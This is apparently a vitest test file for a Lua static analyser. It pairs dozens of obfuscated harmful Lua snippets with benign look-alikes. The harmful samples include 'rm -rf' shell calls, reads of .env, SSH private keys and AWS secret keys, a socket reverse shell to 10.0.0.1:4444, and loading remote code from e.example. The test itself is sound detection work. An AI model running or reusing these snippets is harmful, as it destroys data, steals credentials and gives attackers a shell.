import { describe, expect, it } from 'vitest';
import { found } from '../testing/found.ts';

type Row = readonly [code: string, ...found: string[]];

/** What the code would do, however it is written. */
const ATTACKS: readonly Row[] = [
  ['os.remove("a")', 'file.delete a'],
  ['os["remove"]("a")', 'file.delete a'],
  ['os["re".."move"]("a")', 'file.delete a'],
  ['local r = os.remove; r("a")', 'file.delete a'],
  ['local o = os; o.remove "a"', 'file.delete a'],
  ['_G.os.remove("a")', 'file.delete a'],
  ['_G["os"]["remove"]("a")', 'file.delete a'],
  ['_ENV.os.remove("a")', 'file.delete a'],
  ['require("os").remove("a")', 'file.delete a'],
  ['package.loaded.os.remove("a")', 'file.delete a'],
  ['getmetatable(_G or {}); rawget(os, "remove")("a")', 'file.delete a'],
  ['pcall(os.remove, "a")', 'file.delete *'],
  ['xpcall(os.remove, print, "a")', 'file.delete *'],
  ['coroutine.wrap(os.remove)("a")', 'file.delete *'],
  ['coroutine.wrap(function() os.remove("a") end)()', 'file.delete a'],
  ['(function(...) return os.remove(...) end)("a")', 'file.delete *'],
  ['for _, f in ipairs({"a","b"}) do os.remove(f) end', 'file.delete *'],
  ['load("os.remove(\\"a\\")")()', 'file.delete a'],
  ['loadstring("os.remove(\\"a\\")")()', 'file.delete a'],
  ['load(string.reverse(")\\"a\\"(evomer.so"))()', 'unknown dynamic-code'],
  [
    'load(string.char(111,115,46,114,101,109,111,118,101,40,39,97,39,41))()',
    'unknown dynamic-code',
  ],
  ['load("\\111\\115.remove(\\"a\\")")()', 'file.delete a'],
  ['os.execute("rm -rf src")', 'shell rm -rf src'],
  ['os.execute "rm -rf src"', 'shell rm -rf src'],
  ['os.execute[[rm -rf src]]', 'shell rm -rf src'],
  ['io.popen("rm -rf src"):read("*a")', 'shell rm -rf src'],
  ['io.popen("sh","w"):write("rm -rf src")', 'shell sh'],
  ['print(io.open(".env"):read("*a"))', 'file.read .env'],
  ['for l in io.lines(".env") do print(l) end', 'file.read .env'],
  ['io.input(".env"); print(io.read("*a"))', 'file.read .env'],
  ['print(io.open(os.getenv("HOME").."/.ssh/id_rsa"):read("a"))', 'file.read */.ssh/id_rsa'],
  ['io.open(".env","w"):close()', 'file.write .env'],
  ['io.output(".env"); io.write("")', 'file.write .env'],
  ['os.rename(".env","/tmp/x")', 'file.move .env'],
  ['print(os.getenv("AWS_SECRET_ACCESS_KEY"))', 'secret.read environment AWS_SECRET_ACCESS_KEY'],
  [
    'local s=require("socket").tcp(); s:connect("10.0.0.1",4444); while true do local c=s:receive(); io.popen(c) end',
    'shell *',
    'system.process exhaust',
  ],
  ['load(require("socket.http").request("https://e.example/x.lua"))()', 'unknown dynamic-code'],
  ['require("lfs").rmdir("d")', 'file.delete d'],
  ['require("posix").unlink("a")', 'file.delete a'],
  ['local f = os["exec" .. "ute"]; f("rm -rf src")', 'shell rm -rf src'],
  ['local function go(f, x) f(x) end; go(os.remove, "a")', 'file.delete a'],
  ['setmetatable({}, {__index = function() os.remove("a") end}).x()', 'file.delete a'],
  ['while true do io.popen("sleep 9") end', 'shell sleep 9', 'system.process exhaust'],
  ['for k, v in pairs({os.remove}) do v("a") end', 'file.delete *'],
  ['local t = {"a", "b"}; for i = 1, #t do os.remove(t[i]) end', 'file.delete *'],
  ['local c = "rm"; c = c .. " -rf src"; os.execute(c)', 'shell rm -rf src'],
  ['os.execute(("%s -rf src"):format("rm"))', 'shell rm -rf src'],
  ['os.execute(table.concat({"rm", "-rf", "src"}, " "))', 'shell *'],
  ['os[("execute")]("rm -rf src")', 'shell rm -rf src'],
];

/** The same shapes, and what people run all day: all that is found in each. */
const LOOK_ALIKES: readonly Row[] = [
  ['print(_VERSION)'],
  ['for l in io.lines("a.txt") do print(#l) end', 'file.read a.txt'],
  ['print(os.date("%Y-%m-%d", os.time() - 7*86400))'],
  [
    'local n = 0; for _ in io.lines("src/main.lua") do n = n + 1 end; print(n)',
    'file.read src/main.lua',
  ],
  ['local m = require("mymodule"); print(m.version)'],
  [
    'local f = io.open("version.lua", "w"); f:write("return 1"); f:close()',
    'file.write version.lua',
  ],
  ['print(string.format("%.2f", 3.14159), ("x"):rep(3))'],
  ['local t = {3,1,2}; table.sort(t); table.remove(t, 1); print(table.concat(t, ","))'],
  ['print(os.getenv("HOME"), os.clock())'],
  [
    'local h = io.popen("git rev-parse HEAD"); print(h:read("*a")); h:close()',
    'shell git rev-parse HEAD',
  ],
  ['math.randomseed(os.time()); print(math.random(1, 100))'],
  ['assert(loadfile("main.lua")); print("ok")', 'file.read main.lua', 'unknown script-body'],
  ['print(("hello"):gsub("l", "L"))'],
  ['print(pcall(function() error("x") end))'],
  ['for k, v in pairs({a=1}) do print(k, v) end'],
  ['local f = require("lib.util"); print(f.add(1,2))'],
  ['print(table.concat({"rm", "-rf", "src"}, " "))'],
  ['for _, f in ipairs({"a", "b"}) do print(f) end'],
  ['print(load("return 1 + 1")())'],
  ['print(pcall(print, "a"))'],
  ['local f = io.open("notes.txt", "w"); f:write("rm -rf ~"); f:close()', 'file.write notes.txt'],
  ['while true do break end'],
  ['local t = {remove = function(x) print(x) end}; t.remove("a")'],
];

describe('Lua that does harm', () => {
  it.each(ATTACKS)('%s', (code, ...expected) => {
    expect(found('lua', code)).toEqual(expect.arrayContaining(expected));
  });
});

describe('Lua that only looks like it', () => {
  it.each(LOOK_ALIKES)('%s', (code, ...expected) => {
    expect(found('lua', code)).toEqual(expected);
  });
});
